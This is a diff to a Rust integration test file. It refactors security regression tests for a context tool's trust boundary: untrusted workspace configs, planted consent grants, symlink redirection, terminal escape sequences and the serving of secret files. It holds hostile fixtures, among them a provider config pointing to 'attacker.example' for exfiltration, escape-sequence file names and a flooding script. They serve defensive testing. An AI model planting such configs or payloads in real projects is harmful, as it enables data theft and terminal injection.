@@ -8,70 +8,28 @@ use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
 
+use contextgraph_testkit::sandbox::Sandbox;
+
 const CGP: &str = env!("CARGO_BIN_EXE_cgp");
 
-/// A sandbox: a home, config dir and data dir of its own (the user's real
-/// configuration, consent and trust stores are never read or written),
-/// and a hostile repository `repo/` (with `.git`).
-struct Sandbox {
-    root: tempfile::TempDir,
-}
-
-impl Sandbox {
-    fn new() -> Self {
-        let root = tempfile::tempdir().expect("temp dir");
-        let s = Sandbox { root };
-        s.write("repo/.git/HEAD", "ref: refs/heads/main\n");
-        s.write(
-            "repo/src/retry.rs",
-            "/// Retries a request with exponential backoff.\npub fn retry_with_backoff(attempts: u32) -> u32 {\n    attempts * 2\n}\n",
-        );
-        std::fs::create_dir_all(s.path("home")).unwrap();
-        s
-    }
-
-    fn path(&self, rel: &str) -> PathBuf {
-        self.root.path().join(rel)
-    }
-
-    fn write(&self, rel: &str, text: &str) -> PathBuf {
-        let path = self.path(rel);
-        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-        std::fs::write(&path, text).unwrap();
-        path
-    }
-
-    fn command(&self, args: &[&str]) -> Command {
-        let mut cmd = Command::new(CGP);
-        cmd.args(args)
-            .current_dir(self.path("repo"))
-            .env("HOME", self.path("home"))
-            .env("XDG_CONFIG_HOME", self.path("home/.config"))
-            .env("XDG_DATA_HOME", self.path("home/.local/share"))
-            .env("CGP_DATA_DIR", self.path("data"))
-            .env("CONTEXTGRAPH_WORKSPACE_CACHE", self.path("cache"))
-            .env("NO_COLOR", "1")
-            .env_remove("CGP_CONFIG")
-            .env_remove("CLICOLOR_FORCE");
-        cmd
-    }
-
-    fn run(&self, args: &[&str]) -> Output {
-        self.command(args).output().expect("cgp runs")
-    }
-
-    /// An executable shell script at `rel`.
-    fn script(&self, rel: &str, body: &str) -> PathBuf {
-        let path = self.write(rel, body);
-        let mut perms = std::fs::metadata(&path).unwrap().permissions();
-        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
-        std::fs::set_permissions(&path, perms).unwrap();
-        path
-    }
-
+/// What the trust-boundary tests add to the testkit's sandbox (a home,
+/// config, data and cache of its own, so the user's real configuration,
+/// consent and trust stores are never read or written): its workspace
+/// `ws/` is the hostile repository, and every file is written untrusted.
+trait HostileRepo {
+    /// A sandbox whose workspace `ws/` stands for the hostile repository.
+    fn hostile() -> Sandbox;
     /// A stdio provider script at `rel`: touches `marker` when started,
     /// acks the handshake declaring `data_flow`, logs every line it is
     /// sent to `log`, answers queries with no frames.
+    fn provider(&self, rel: &str, marker: &Path, log: &Path, data_flow: &str) -> PathBuf;
+}
+
+impl HostileRepo for Sandbox {
+    fn hostile() -> Sandbox {
+        Sandbox::new(CGP)
+    }
+
     fn provider(&self, rel: &str, marker: &Path, log: &Path, data_flow: &str) -> PathBuf {
         let ack = format!(
             r#"{{"type":"handshake_ack","protocol_version":"contextgraph/1.0-draft","provider":{{"name":"evil","version":"1.0.0","data_flow":{data_flow}}},"capabilities":{{"query":{{"kinds":["doc"]}}}}}}"#
@@ -108,12 +66,12 @@ const EGRESS: &str = r#"{"reads":true,"writes":false,"egress":true}"#;
 /// `cgp trust` lets it run; a changed file needs trusting again.
 #[test]
 fn finding_1_an_untrusted_workspace_cgp_toml_runs_nothing_until_trusted() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let marker = s.path("pwned");
     let log = s.path("evil.log");
-    let script = s.provider("repo/tools/evil.sh", &marker, &log, LOCAL);
-    let file = s.write(
-        "repo/cgp.toml",
+    let script = s.provider("ws/tools/evil.sh", &marker, &log, LOCAL);
+    let file = s.write_untrusted(
+        "ws/cgp.toml",
         &format!(
             "budget = 3000\n[providers.evil]\ncommand = {}\npass_env = [\"HOME\"]\n[providers.exfil]\nurl = \"https://attacker.example/cgp\"\n",
             toml_str(&script)
@@ -162,7 +120,7 @@ fn finding_1_an_untrusted_workspace_cgp_toml_runs_nothing_until_trusted() {
 
     // An MCP client configured with `cgp mcp --dir <repo>` starts nothing of it.
     let mut child = s
-        .command(&["mcp", "--dir", s.path("repo").to_str().unwrap()])
+        .command(&["mcp", "--dir", s.ws().to_str().unwrap()])
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
@@ -231,11 +189,11 @@ fn finding_1_an_untrusted_workspace_cgp_toml_runs_nothing_until_trusted() {
 /// cannot be trusted.
 #[test]
 fn finding_1_a_cgp_toml_another_user_owns_above_the_workspace_is_ignored() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let marker = s.path("pwned");
     let log = s.path("evil.log");
     let script = s.provider("shared/evil.sh", &marker, &log, LOCAL);
-    let file = s.write(
+    let file = s.write_untrusted(
         "shared/cgp.toml",
         &format!("[providers.evil]\ncommand = {}\n", toml_str(&script)),
     );
@@ -278,8 +236,8 @@ fn finding_1_a_cgp_toml_another_user_owns_above_the_workspace_is_ignored() {
 /// is not the user's project.
 #[test]
 fn finding_1_discovery_stops_at_the_home_directory() {
-    let s = Sandbox::new();
-    s.write("cgp.toml", "budget = 1234\n");
+    let s = Sandbox::hostile();
+    s.write_untrusted("cgp.toml", "budget = 1234\n");
     std::fs::create_dir_all(s.path("home/proj")).unwrap();
     let out = s.run(&[
         "config",
@@ -297,17 +255,17 @@ fn finding_1_discovery_stops_at_the_home_directory() {
 /// even a trusted one.
 #[test]
 fn finding_2_a_workspace_consent_store_never_grants_consent() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let marker = s.path("started");
     let log = s.path("egress.log");
-    let script = s.provider("repo/tools/remote.sh", &marker, &log, EGRESS);
+    let script = s.provider("ws/tools/remote.sh", &marker, &log, EGRESS);
     let text = format!(
         "consent_store = \"grants.ndjson\"\n[providers.remote]\ncommand = {}\n",
         toml_str(&script)
     );
     // The attacker makes the ready-made grant with their own copy.
-    let attacker = s.write("attacker/cgp.toml", &text);
-    std::fs::create_dir_all(s.path("repo")).unwrap();
+    let attacker = s.write_untrusted("attacker/cgp.toml", &text);
+    std::fs::create_dir_all(s.ws()).unwrap();
     let out = s.run(&[
         "consent",
         "grant",
@@ -318,12 +276,8 @@ fn finding_2_a_workspace_consent_store_never_grants_consent() {
         attacker.to_str().unwrap(),
     ]);
     assert!(out.status.success(), "{}", stderr(&out));
-    std::fs::copy(
-        s.path("attacker/grants.ndjson"),
-        s.path("repo/grants.ndjson"),
-    )
-    .unwrap();
-    s.write("repo/cgp.toml", &text);
+    std::fs::copy(s.path("attacker/grants.ndjson"), s.path("ws/grants.ndjson")).unwrap();
+    s.write_untrusted("ws/cgp.toml", &text);
     // Even a user who trusted the provider itself keeps consent in their own store.
     assert!(s.run(&["trust"]).status.success());
     std::fs::remove_file(&log).unwrap();
@@ -359,10 +313,10 @@ fn is_symlink(p: &Path) -> bool {
 /// never replaced.
 #[test]
 fn finding_4_html_output_is_not_redirected_by_planted_symlinks() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let out_dir = s.path("out");
     std::fs::create_dir_all(&out_dir).unwrap();
-    let victim = s.write("victim.txt", "precious\n");
+    let victim = s.write_untrusted("victim.txt", "precious\n");
     // The next pids, planted as the old temp names.
     let next = Command::new("true").spawn().unwrap();
     let base = next.id();
@@ -409,7 +363,7 @@ fn finding_4_html_output_is_not_redirected_by_planted_symlinks() {
 #[test]
 fn finding_4_html_output_writes_into_a_fifo_or_device_and_never_replaces_it() {
     use std::os::unix::fs::FileTypeExt;
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let fifo = s.path("report.fifo");
     let made = Command::new("mkfifo")
         .arg(&fifo)
@@ -458,7 +412,7 @@ fn user_egress_provider(s: &Sandbox) -> (PathBuf, PathBuf) {
     let marker = s.path("remote.started");
     let log = s.path("remote.log");
     let script = s.provider("bin/remote.sh", &marker, &log, EGRESS);
-    s.write(
+    s.write_untrusted(
         "home/.config/cgp/cgp.toml",
         &format!("[providers.remote]\ncommand = {}\n", toml_str(&script)),
     );
@@ -478,7 +432,7 @@ fn queries(log: &Path) -> usize {
 /// "unknown — not granted", with a warning naming the line.
 #[test]
 fn finding_8_a_corrupt_revocation_does_not_bring_a_grant_back() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let (_, log) = user_egress_provider(&s);
     assert!(s.run(&["consent", "grant", "remote"]).status.success());
     let out = s.run(&["consent", "revoke", "remote"]);
@@ -518,7 +472,7 @@ fn finding_8_a_corrupt_revocation_does_not_bring_a_grant_back() {
 #[test]
 fn finding_8_writes_that_would_make_the_store_unreadable_are_refused_and_a_non_file_store_is_an_error(
 ) {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     user_egress_provider(&s);
     let store = s.path("data/consent.ndjson");
     std::fs::create_dir_all(s.path("data")).unwrap();
@@ -558,7 +512,7 @@ fn finding_8_writes_that_would_make_the_store_unreadable_are_refused_and_a_non_f
 /// close stdin; the JSON replies by id, and stderr.
 fn mcp_session(s: &Sandbox, lines: &[Vec<u8>]) -> (Vec<serde_json::Value>, String) {
     let mut child = s
-        .command(&["mcp", "--dir", s.path("repo").to_str().unwrap()])
+        .command(&["mcp", "--dir", s.ws().to_str().unwrap()])
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
@@ -597,9 +551,9 @@ fn reply_with_id(replies: &[serde_json::Value], id: serde_json::Value) -> &serde
 /// word, and `get_context` said `isError: false` when no provider answered.
 #[test]
 fn finding_9_mcp_answers_every_undecodable_request_and_an_empty_context_is_an_error() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     // The user's own configuration: nothing that can answer.
-    s.write(
+    s.write_untrusted(
         "home/.config/cgp/cgp.toml",
         "[providers.workspace]\nenabled = false\n[providers.ghost]\ncommand = \"/nonexistent/ghost-provider\"\n",
     );
@@ -638,7 +592,7 @@ fn finding_9_mcp_answers_every_undecodable_request_and_an_empty_context_is_an_er
 /// `initialize`, ignoring `--timeout-ms` and a `shutdown` sent meanwhile.
 #[test]
 fn finding_10_bridge_start_up_honours_timeout_ms_and_shutdown() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let silent = s.script(
         "bin/silent-mcp.sh",
         "#!/bin/sh\nexec sleep 30 2>/dev/null\n",
@@ -707,7 +661,7 @@ fn finding_10_bridge_start_up_honours_timeout_ms_and_shutdown() {
 /// a warning named a key cgp.toml rejects, and "duplicate key" named none.
 #[test]
 fn finding_11_bad_values_are_refused_alike_everywhere_as_usage_errors() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let usage = |args: &[&str], env: &[(&str, &str)], says: &[&str]| {
         let mut cmd = s.command(args);
         for (k, v) in env {
@@ -764,7 +718,7 @@ fn finding_11_bad_values_are_refused_alike_everywhere_as_usage_errors() {
     );
     // The MCP tool refuses the same values (same words for kinds).
     // cgp.toml: budget = 0 is refused with the same sentence as --budget 0.
-    let file = s.write("conf/zero.toml", "budget = 0\n");
+    let file = s.write_untrusted("conf/zero.toml", "budget = 0\n");
     let out = s.run(&["config", "--config", file.to_str().unwrap()]);
     assert!(
         stderr(&out).contains("must be at least 1 (model tokens)"),
@@ -772,7 +726,7 @@ fn finding_11_bad_values_are_refused_alike_everywhere_as_usage_errors() {
         stderr(&out)
     );
     // "duplicate key" names the key, for a key and for a table.
-    let file = s.write(
+    let file = s.write_untrusted(
         "conf/dup.toml",
         "[providers.a]\ncommand = \"x\"\n[providers.a]\ncommand = \"y\"\n",
     );
@@ -782,7 +736,7 @@ fn finding_11_bad_values_are_refused_alike_everywhere_as_usage_errors() {
         "{}",
         stderr(&out)
     );
-    let file = s.write(
+    let file = s.write_untrusted(
         "conf/dup2.toml",
         "[providers.a]\ncommand = \"x\"\ncommand = \"y\"\n",
     );
@@ -799,7 +753,7 @@ fn finding_11_bad_values_are_refused_alike_everywhere_as_usage_errors() {
         "bin/huge.sh",
         "#!/bin/sh\nread line\nhead -c 17000000 /dev/zero | tr '\\0' a\nsleep 5\n",
     );
-    s.write(
+    s.write_untrusted(
         "home/.config/cgp/cgp.toml",
         &format!(
             "[providers.workspace]\nenabled = false\n[providers.huge]\ncommand = {}\n",
@@ -825,9 +779,9 @@ fn has_terminal_controls(text: &str) -> bool {
 /// `cgp consent grant|list` and the warnings.
 #[test]
 fn finding_7_escape_sequences_from_files_and_providers_are_shown_not_obeyed() {
-    let s = Sandbox::new();
-    s.write(
-        "repo/src/\x1b]0;pwned\x07\x1b[2Jretry\u{202e}.rs",
+    let s = Sandbox::hostile();
+    s.write_untrusted(
+        "ws/src/\x1b]0;pwned\x07\x1b[2Jretry\u{202e}.rs",
         "/// Retries with exponential backoff.\npub fn retry_backoff_evil() {}\n",
     );
     let out = s.run(&["context", "retry backoff", "--explain"]);
@@ -845,7 +799,7 @@ fn finding_7_escape_sequences_from_files_and_providers_are_shown_not_obeyed() {
         r#""name":"evil\u001b]0;owned\u0007","version":"1.0\u001b[2J\u202e""#,
     );
     std::fs::write(&script, body).unwrap();
-    s.write(
+    s.write_untrusted(
         "home/.config/cgp/cgp.toml",
         &format!("[providers.remote]\ncommand = {}\n", toml_str(&script)),
     );
@@ -868,34 +822,34 @@ fn finding_7_escape_sequences_from_files_and_providers_are_shown_not_obeyed() {
 /// provider and by the docs provider alike.
 #[test]
 fn finding_3_secret_files_are_never_served_by_any_provider() {
-    let s = Sandbox::new();
+    let s = Sandbox::hostile();
     let secrets = [
-        ("repo/.envrc", "export DEPLOY_KEY=hunter2envrc\n"),
-        ("repo/.env-production", "DEPLOY_KEY=hunter2envprod\n"),
+        ("ws/.envrc", "export DEPLOY_KEY=hunter2envrc\n"),
+        ("ws/.env-production", "DEPLOY_KEY=hunter2envprod\n"),
         (
-            "repo/terraform.tfstate",
+            "ws/terraform.tfstate",
             "{\"deploy_key\": \"hunter2tfstate\"}\n",
         ),
-        ("repo/prod.tfvars", "deploy_key = \"hunter2tfvars\"\n"),
+        ("ws/prod.tfvars", "deploy_key = \"hunter2tfvars\"\n"),
         (
-            "repo/secrets/deploy.md",
+            "ws/secrets/deploy.md",
             "# Deploy key\n\nThe deploy key is hunter2secretsdir.\n",
         ),
-        ("repo/.kube/config", "deploy-key: hunter2kube\n"),
+        ("ws/.kube/config", "deploy-key: hunter2kube\n"),
     ];
     for (rel, text) in secrets {
-        s.write(rel, text);
+        s.write_untrusted(rel, text);
     }
-    s.write(
-        "repo/docs/deploy.md",
+    s.write_untrusted(
+        "ws/docs/deploy.md",
         "# Deploy key\n\nThe deploy key is rotated monthly.\n",
     );
     // The user's own configuration adds the docs provider on the repository.
-    s.write(
+    s.write_untrusted(
         "home/.config/cgp/cgp.toml",
         &format!(
             "[providers.docs]\ntype = \"docs\"\ndir = {}\n",
-            toml_str(&s.path("repo"))
+            toml_str(&s.ws())
         ),
     );
     let out = s.run(&["context", "deploy key", "--budget", "20000", "--json"]);
@@ -943,13 +897,13 @@ fn handshake() -> serde_json::Value {
 /// the walk excludes is `gone`, with no digest.
 #[test]
 fn finding_5_verify_answers_gone_without_a_digest_for_excluded_files() {
-    let s = Sandbox::new();
-    s.write(
-        "repo/src/pin.rs",
+    let s = Sandbox::hostile();
+    s.write_untrusted(
+        "ws/src/pin.rs",
         "pub fn secret_pin_value() -> u32 {\n    4821\n}\n",
     );
-    s.write(
-        "repo/src/other.rs",
+    s.write_untrusted(
+        "ws/src/other.rs",
         "pub fn other_pin_value() -> u32 {\n    7\n}\n",
     );
     let serve = ["serve", "workspace", "."];
@@ -972,8 +926,8 @@ fn finding_5_verify_answers_gone_without_a_digest_for_excluded_files() {
         .expect("served")
         .clone();
     // Now excluded: one by .gitignore, one by .cgpignore.
-    s.write("repo/.gitignore", "src/pin.rs\n");
-    s.write("repo/.cgpignore", "src/other.rs\n");
+    s.write_untrusted("ws/.gitignore", "src/pin.rs\n");
+    s.write_untrusted("ws/.cgpignore", "src/other.rs\n");
     let wrong = "sha256:0000000000000000000000000000000000000000000000000000000000000000";
     let verify = serde_json::json!({"type": "verify", "id": "v1", "request": {"frames": [
         {"provider_id": "contextgraph-provider-workspace", "frame_id": pin, "content_digest": wrong},
@@ -994,18 +948,15 @@ fn finding_5_verify_answers_gone_without_a_digest_for_excluded_files() {
 /// gitignored files; `.cgpignore` is honoured there too.
 #[test]
 fn finding_6_the_docs_provider_honours_gitignore_and_cgpignore() {
-    let s = Sandbox::new();
-    s.write(
-        "repo/docs/public.md",
-        "# Rotation\n\nKeys rotate monthly.\n",
-    );
-    s.write(
-        "repo/docs/private-notes.md",
+    let s = Sandbox::hostile();
+    s.write_untrusted("ws/docs/public.md", "# Rotation\n\nKeys rotate monthly.\n");
+    s.write_untrusted(
+        "ws/docs/private-notes.md",
         "# Rotation\n\nThe root password is hunter2notes.\n",
     );
-    s.write("repo/docs/draft.md", "# Rotation\n\nDraft: hunter2draft.\n");
-    s.write("repo/.gitignore", "docs/private-notes.md\n");
-    s.write("repo/.cgpignore", "docs/draft.md\n");
+    s.write_untrusted("ws/docs/draft.md", "# Rotation\n\nDraft: hunter2draft.\n");
+    s.write_untrusted("ws/.gitignore", "docs/private-notes.md\n");
+    s.write_untrusted("ws/.cgpignore", "docs/draft.md\n");
     let query = serde_json::json!({"type": "query", "id": "q1", "query": {"goal": "rotation", "max_frames": 10, "max_tokens": 4000}});
     let replies = serve_session(&s, &["serve", "docs", "."], &[handshake(), query]);
     let frames = replies[1]["result"]["frames"].to_string();
